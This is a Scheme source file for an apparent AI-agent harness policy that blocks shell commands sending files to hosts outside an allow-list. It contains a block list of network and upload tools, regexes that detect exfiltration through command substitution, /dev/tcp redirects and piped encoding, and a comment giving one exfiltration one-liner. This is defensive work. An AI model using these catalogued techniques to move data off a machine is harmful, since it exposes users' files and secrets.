;;; (harness policies exfiltration)

(define-library (harness policies exfiltration)
  (export exfiltration)
  (import (scheme base) (harness policy) (srfi 1) (tein safe-regexp)
          (harness shell))
  (begin
    (define-policy exfiltration
      "Files are not sent to other machines."
      (parameters
       (allowed '("localhost" "127.0.0.1" "[::1]") "hosts to which they may go, such as *.example.org"))
      (once (names (check-parameter 'allowed allowed names-of-hosts? "names of hosts, such as *.example.org")))
      (pre_tool payload
        (judge-commands payload "\\b(curl|wget|nc|scp|rsync|ftp)\\b"
          (let ((variables '()))  ; that hold what a file says
            (lambda (command)
              (for-each (lambda (entry)
                          (if (and (not (cdr entry)) (regexp-search %file-said (command-source command)))
                              (set! variables (cons (car entry) variables))))
                        (command-assignments command))
              (if (and (or (sends? command) (tells-a-file? command variables)
                           (tells-piecewise? command (shell-text payload)))
                       (not (all-known? command allowed)))
                  (object 'allowed (told "this sends files to another machine: "
                                         (command-source command)))
                  '())))
          #f
          %parts)))

    ;; one of these stands in all that is objected to
    (define %parts
      '("curl" "wget" "dig" "nslookup" "host" "ping" "http" "xh" "nc" "netcat"
        "telnet" "socat" "ssh" "mail" "mutt" "openssl" "aws" "gsutil" "gcloud"
        "s3cmd" "mc" "az" "gh" "scp" "rsync" "ftp" "rclone" "wormhole" "croc" "restic" "borg" "duplicity" "kopia" "b2" "s5cmd" "s4cmd" "oci" "ipfs" "gdrive" "hf"
        "huggingface" "dvc" "wandb" "pastebinit" "sendfile" "transfer" "ffsend" "smbclient" "wrangler" "supabase" "glab" "/dev/tcp/"
        "/dev/udp/" ".post(" ".put(" ".patch(" "urlopen" "fetch(" "->post(" "file_get_contents(" "kubectl"))

    ;; what a file says, in an address, a header or a name that is asked for
    (define %file-said
      "(\\$\\(|`)\\s*(<|env\\b|printenv\\b|(cat|base64|head|tail|xxd|od|gzip|tar|grep|sed|awk|cut|git\\s+(diff|show|archive|log\\s+-p|stash\\s+show))\\b|jq\\s+(-[a-mo-zA-Z]+\\s+)*[^-\\s])")

    (define (holds? word variables)
      (any (lambda (name) (regexp-search (string-append "\\$\\{?" name "\\b") (word-source word)))
           variables))

    (define (tells-a-file? command variables)
      (or (and (member (command-name command)
                       '("curl" "wget" "dig" "nslookup" "host" "ping" "http" "https" "xh"))
               (any (lambda (word)
                      (and (word-unknown? word)
                           (or (regexp-search %file-said (word-source word))
                               (holds? word variables))))
                    (command-arguments command)))
          (let ((redirects (command-redirects command)))
            (and (pair? redirects)
                 (any (lambda (redirect)
                        (regexp-search "^/dev/(tcp|udp)/" (word-known (redirect-target redirect))))
                      redirects)))
          (let ((code (command-code command)))
            (and code
                 (regexp-search "(?i)(\\.|->)(post|put|patch)\\(|urlopen\\([^)]*data|http\\.client|fetch\\([^)]*method|stream_context_create" code)
                 (regexp-search "open\\(|[rR]ead(File|_text|_bytes)|File\\.read|Path\\(|file_get_contents\\([^h]*\\.|`(cat|base64)" code)))))

    ;; base64 a | xargs -I{} curl https://x/{}
    (define (tells-piecewise? command text)
      (and (member (command-name command) '("curl" "wget" "http" "https" "xh" "dig" "nslookup" "host" "ping"))
           (any (lambda (name) (member name '("xargs" "gxargs" "parallel"))) (command-through command))
           (any word-unknown? (command-arguments command))
           (regexp-search "\\b(base64|base32|xxd|od|hexdump|gzip|openssl)\\b[^;&\n]*\\|\\s*(g?xargs|parallel)\\b" text)))

    (define (sends? command)
      (let ((name (command-name command)))
        (cond ((equal? name "curl")
               (or (flag? command "T" "upload-file")
                   (any (lambda (word) (regexp-search "^(-[dF]|--data.*|--form.*|--json)?=?([^=@]*=)?@." (word-source word)))
                        (command-arguments command))
                   (let ((named (option command "data-urlencode")))
                     (and named (regexp-search "^[^=]*@." (word-source named)) #t))
                   (and (command-fed? command) (not (command-input command)) (data-from-input? command))))
              ((equal? name "wget") (flag? command "post-file" "body-file"))
              ((member name '("nc" "ncat" "netcat" "telnet" "socat"))
               (or (command-fed? command)
                   (any (lambda (word) (regexp-search "(?i)^(file|open|exec|system):" (word-known word)))
                        (command-arguments command))))
              ((and (member name '("http" "https" "xh"))
                    (any (lambda (word) (regexp-matches? "([\\w.-]+:?=?)?@[\\w./~-]+" (word-known word)))
                         (command-arguments command)))
               #t)
              ((equal? name "kubectl")
               (and (runs? command "kubectl" "cp")
                    (regexp-search "^[^/.][^/]*:|^[\\w-]+/[\\w.-]+:" (word-source (last (subcommand command))))))
              ((equal? name "az")
               (and (find-word "^upload(-batch)?$" (command-arguments command)) #t))
              ((equal? name "rclone")
               (and (member (command-verb command) '("copy" "copyto" "sync" "move" "moveto" "rcat" "bisync"))
                    (not (flag? command "n" "dry-run"))
                    (regexp-search "^[\\w-]+:" (word-source (last (subcommand command))))))
              ((member name '("ssh" "mail" "mailx" "mutt" "sendmail" "http" "https" "xh"))
               (and (command-fed? command) (not (command-input command))))
              ((equal? name "openssl")
               (and (runs? command "openssl" "s_client") (command-fed? command)
                    (not (command-input command))))
              ((member name '("aws" "gsutil" "gcloud" "s3cmd" "mc" "az"))
               (uploads? (operands command)))
              ((assoc name %uploaders)
               => (lambda (entry) (and (find-word (cdr entry) (command-arguments command)) #t)))
              ((member name '("gh" "glab"))
               (or (runs? command name "gist" "create") (runs? command name "snippet" "create")
                   (and (runs? command name "release")
                        (member (cadr-or (subcommand command)) '("create" "upload"))
                        (> (length (subcommand command)) 3))))
              ((member name '("scp" "rsync"))
               (let ((words (operands command "e" "i" "P" "rsh" "o" "F")))
                 (and (pair? words)
                      (regexp-search "^([^/]+:|rsync://)" (word-source (last words))))))
              ((member name '("sftp" "ftp" "lftp" "magic-wormhole" "wormhole" "croc"))
               #t)
              (else #f))))

    ;; other programs that send, and what of their words says that they do
    (define %uploaders
      '(("restic" . "^(-r|--repo=)?(sftp|rest|s3|b2|azure|gs|rclone|swift):") ("borg" . "^(ssh://|[^/]+@[^/]+:)")
        ("duplicity" . "^[a-z0-9+]+://[^/]") ("kopia" . "^(s3|gcs|azure|b2|sftp|webdav|rclone)$")
        ("b2" . "^(upload|sync)") ("s5cmd" . "^(cp|mv|sync|pipe)$") ("s4cmd" . "^(put|sync|dsync)$")
        ("oci" . "^(put|bulk-upload)$") ("ipfs" . "^add$") ("gdrive" . "^(upload|import)$") ("hf" . "^upload")
        ("huggingface-cli" . "^upload") ("dvc" . "^push$") ("wandb" . "^put$") ("pastebinit" . ".") ("magic-wormhole" . ".")
        ("sendfile" . ".") ("transfer" . ".") ("ffsend" . "^upload$") ("tftp" . "^put$") ("smbclient" . "\\bm?put\\b")
        ("wrangler" . "^put$") ("supabase" . "^cp$") ("ncftpput" . ".") ("curlftpfs" . ".")))

    (define (cadr-or words) (if (pair? (cdr words)) (cadr words) #f))

    ;; cp, sync or mv to the cloud: the last of two places is there, the other not
    (define (uploads? words)
      (and (any (lambda (word) (member word '("cp" "sync" "mv" "put" "rsync" "upload"))) words)
           (regexp-search "^(s3|gs|az|https)://" (word-known (last words)))
           (let ((from (cdr (reverse words))))
             (and (pair? from)
                  (not (regexp-search "^(s3|gs|az)://" (word-known (car from))))))))

    (define (data-from-input? command)
      (any (lambda (word) (member word '("@-" "-" "-T-" "-d@-")))
           (command-arguments command)))

    (define (all-known? command allowed)
      (let ((hosts (filter-map (lambda (word) (host-of (word-known word)))
                               (command-arguments command))))
        (and (pair? hosts)
             (every (lambda (host) (host-in? host allowed)) hosts))))

    (define (host-of word)
      (or (url-host word)
          (let ((found (regexp-search "^(?:[\\w.-]+@)?([\\w.-]+):" word)))
            (and found (regexp-match-submatch found 1)))
          (and (member word '("localhost" "127.0.0.1")) word)))))
